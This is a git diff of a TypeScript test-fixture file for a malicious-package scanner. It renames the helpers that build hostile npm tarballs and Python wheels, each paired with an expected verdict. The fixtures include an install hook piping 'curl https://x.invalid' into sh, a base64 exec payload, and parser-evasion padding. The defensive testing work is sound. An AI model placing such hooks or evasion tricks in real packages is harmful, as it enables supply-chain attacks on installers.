@@ -1,4 +1,4 @@
-import type { HostileArchive } from './archive';
+import { tarballCase, wheelCase, type HostileArchive } from './archive';
 import { npmPackage, rawTarball, tarball, wheel } from '@sallyport/analysis/testing';
 
 const MIB = 1024 * 1024;
@@ -6,30 +6,18 @@ const HOOK = { postinstall: 'curl https://x.invalid | sh' };
 const MANIFEST = { name: 'sample', version: '1.0.0', scripts: HOOK };
 const PAYLOAD = `import os, base64\nexec(base64.b64decode('${Buffer.from('print(1)').toString('base64')}'))\n`;
 
-const npm = (
-  what: string,
-  build: HostileArchive['build'],
-  verdict: HostileArchive['verdict'],
-  rule: string,
-) => ({ ecosystem: 'npm', what, build, verdict, rule }) as const;
-const pypi = (
-  what: string,
-  build: HostileArchive['build'],
-  verdict: HostileArchive['verdict'],
-  rule: string,
-) => ({ ecosystem: 'pypi', what, build, verdict, rule }) as const;
 const manifest = (text: string | Buffer) => tarball({ 'package.json': text });
 const info = (text: string, files: Record<string, string> = {}) => wheel(files, { record: text });
 
 /** Manifests and contents made to fill memory, stop a parser or be read otherwise by the installer than by us. */
 export const CONTENTS: readonly HostileArchive[] = [
-  npm(
+  tarballCase(
     'a manifest of 12 MB',
     () => manifest(JSON.stringify({ ...MANIFEST, x: 'x'.repeat(12 * MIB) })),
     'malicious',
     'hook-remote-code',
   ),
-  npm(
+  tarballCase(
     'a manifest of 20 MB',
     () =>
       manifest(
@@ -41,7 +29,7 @@ export const CONTENTS: readonly HostileArchive[] = [
     'suspicious',
     'manifest-missing',
   ),
-  npm(
+  tarballCase(
     'a manifest of 300,000 scripts',
     () =>
       manifest(
@@ -50,7 +38,7 @@ export const CONTENTS: readonly HostileArchive[] = [
     'malicious',
     'hook-remote-code',
   ),
-  npm(
+  tarballCase(
     'a manifest nested 500,000 deep',
     () =>
       manifest(
@@ -59,7 +47,7 @@ export const CONTENTS: readonly HostileArchive[] = [
     'malicious',
     'hook-remote-code',
   ),
-  npm(
+  tarballCase(
     'exports nested 100,000 deep',
     () =>
       manifest(
@@ -68,13 +56,13 @@ export const CONTENTS: readonly HostileArchive[] = [
     'malicious',
     'hook-remote-code',
   ),
-  npm(
+  tarballCase(
     'a manifest with keys told twice',
     () => manifest(`{"name":"sample","version":"1.0.0","scripts":{},"scripts":${JSON.stringify(HOOK)}}`),
     'malicious',
     'hook-remote-code',
   ),
-  npm(
+  tarballCase(
     'a manifest with __proto__',
     () =>
       manifest(
@@ -83,40 +71,40 @@ export const CONTENTS: readonly HostileArchive[] = [
     'malicious',
     'hook-remote-code',
   ),
-  npm(
+  tarballCase(
     'a manifest with a byte order mark',
     () => manifest(`\ufeff${JSON.stringify(MANIFEST)}`),
     'malicious',
     'hook-remote-code',
   ),
-  npm(
+  tarballCase(
     'a manifest in UTF-16',
     () =>
       manifest(Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(JSON.stringify(MANIFEST), 'utf16le')])),
     'malicious',
     'hook-remote-code',
   ),
-  npm(
+  tarballCase(
     'a manifest with comments',
     () => manifest(`// x\n${JSON.stringify(MANIFEST)}`),
     'suspicious',
     'manifest-missing',
   ),
-  npm('a manifest that is a list', () => manifest('[]'), 'suspicious', 'manifest-missing'),
-  npm(
+  tarballCase('a manifest that is a list', () => manifest('[]'), 'suspicious', 'manifest-missing'),
+  tarballCase(
     'a hook of 4 MB',
     () =>
       npmPackage({ scripts: { postinstall: `echo ${'a;'.repeat(2 * MIB)} curl https://x.invalid | sh` } }),
     'suspicious',
     'hook-untraceable',
   ),
-  npm(
+  tarballCase(
     'a hook of 200,000 brackets',
     () => npmPackage({ scripts: { postinstall: `${'$('.repeat(200_000)}curl https://x.invalid | sh` } }),
     'suspicious',
     'hook-untraceable',
   ),
-  npm(
+  tarballCase(
     'scripts that call each other for ever',
     () =>
       npmPackage({
@@ -125,25 +113,25 @@ export const CONTENTS: readonly HostileArchive[] = [
     'malicious',
     'hook-remote-code',
   ),
-  npm(
+  tarballCase(
     'code nested 400,000 deep',
     () => npmPackage({ scripts: { install: 'node x.js' } }, { 'x.js': '['.repeat(400_000) }),
     'suspicious',
     'hook-untraceable',
   ),
-  npm(
+  tarballCase(
     'code nested deep where nothing runs it',
     () => npmPackage({}, { 'x.js': `process;${'a=>'.repeat(400_000)}1` }),
     'warning',
     'code-unread',
   ),
-  npm(
+  tarballCase(
     '7,000,000 statements',
     () => npmPackage({}, { 'x.js': `process.env;${'a;'.repeat(7_000_000)}` }),
     'warning',
     'code-unread',
   ),
-  npm(
+  tarballCase(
     'code of 15 MB in one string',
     () =>
       npmPackage(
@@ -155,7 +143,7 @@ export const CONTENTS: readonly HostileArchive[] = [
     'malicious',
     'code-secret-sent',
   ),
-  npm(
+  tarballCase(
     'code of 20 MB',
     () =>
       npmPackage(
@@ -169,7 +157,7 @@ export const CONTENTS: readonly HostileArchive[] = [
     'warning',
     'code-unread',
   ),
-  npm(
+  tarballCase(
     '200 MB of code that repeats itself in many files',
     () =>
       tarball(
@@ -184,7 +172,7 @@ export const CONTENTS: readonly HostileArchive[] = [
     'unknown',
     'archive-limit-exceeded',
   ),
-  npm(
+  tarballCase(
     'binding.gyp of 8 MB',
     () =>
       npmPackage(
@@ -194,14 +182,14 @@ export const CONTENTS: readonly HostileArchive[] = [
     'suspicious',
     'gyp-without-sources',
   ),
-  npm(
+  tarballCase(
     'settings nested 300,000 deep',
     () =>
       npmPackage({}, { '.claude/settings.json': `${'{"hooks":'.repeat(300_000)}1${'}'.repeat(300_000)}` }),
     'warning',
     'code-unread',
   ),
-  npm(
+  tarballCase(
     'an entry with no name',
     () =>
       rawTarball([
@@ -211,56 +199,61 @@ export const CONTENTS: readonly HostileArchive[] = [
     'malicious',
     'archive-unsafe-path',
   ),
-  pypi('RECORD that lists nothing', () => info('', { 'a.py': 'x = 1' }), 'warning', 'record-unlisted-file'),
-  pypi(
+  wheelCase(
+    'RECORD that lists nothing',
+    () => info('', { 'a.py': 'x = 1' }),
+    'warning',
+    'record-unlisted-file',
+  ),
+  wheelCase(
     'RECORD with another digest',
     () => info(`a.py,sha256=${'A'.repeat(43)},5\n`, { 'a.py': 'x = 1' }),
     'suspicious',
     'record-mismatch',
   ),
-  pypi(
+  wheelCase(
     'RECORD with no digest',
     () => info('a.py,,\n', { 'a.py': 'x = 1' }),
     'warning',
     'record-unlisted-file',
   ),
-  pypi(
+  wheelCase(
     'RECORD with a weak digest',
     () => info('a.py,md5=AAAAAAAAAAAAAAAAAAAAAA,5\n', { 'a.py': 'x = 1' }),
     'warning',
     'record-unlisted-file',
   ),
-  pypi(
+  wheelCase(
     'RECORD that lists a path twice',
     () => info(`a.py,sha256=${'A'.repeat(43)},5\na.py,sha256=${'B'.repeat(43)},5\n`, { 'a.py': 'x = 1' }),
     'suspicious',
     'record-mismatch',
   ),
-  pypi(
+  wheelCase(
     'RECORD of 300,000 lines',
     () => info(Array.from({ length: 300_000 }, (_, at) => `f${at}.py,sha256=x,1`).join('\n')),
     'warning',
     'record-unlisted-file',
   ),
-  pypi(
+  wheelCase(
     'METADATA of no headers',
     () => wheel({ 'x-1.dist-info/METADATA': '\n\nName: hidden\nVersion: 1\n' }, { name: 'y' }),
     'suspicious',
     'manifest-missing',
   ),
-  pypi(
+  wheelCase(
     'two folders of metadata',
     () => wheel({ 'other-2.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: other\nVersion: 2.0\n' }),
     'suspicious',
     'record-missing',
   ),
-  pypi(
+  wheelCase(
     'METADATA that names itself twice',
     () => tarball({ 'PKG-INFO': 'Name: a\nName: other\nVersion: 1\n' }),
     'suspicious',
     'manifest-missing',
   ),
-  pypi(
+  wheelCase(
     'a .pth of 10 MB',
     () =>
       wheel({
@@ -269,13 +262,13 @@ export const CONTENTS: readonly HostileArchive[] = [
     'malicious',
     'autoload-payload',
   ),
-  pypi(
+  wheelCase(
     'Python nested 100,000 deep',
     () => wheel({ 'a.py': `${PAYLOAD}x = ${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
     'suspicious',
     'code-unread',
   ),
-  pypi(
+  wheelCase(
     'Python with 100,000 calls in a row',
     () => wheel({ 'a.py': `${PAYLOAD}x = a${'.b()'.repeat(100_000)}` }),
     'suspicious',
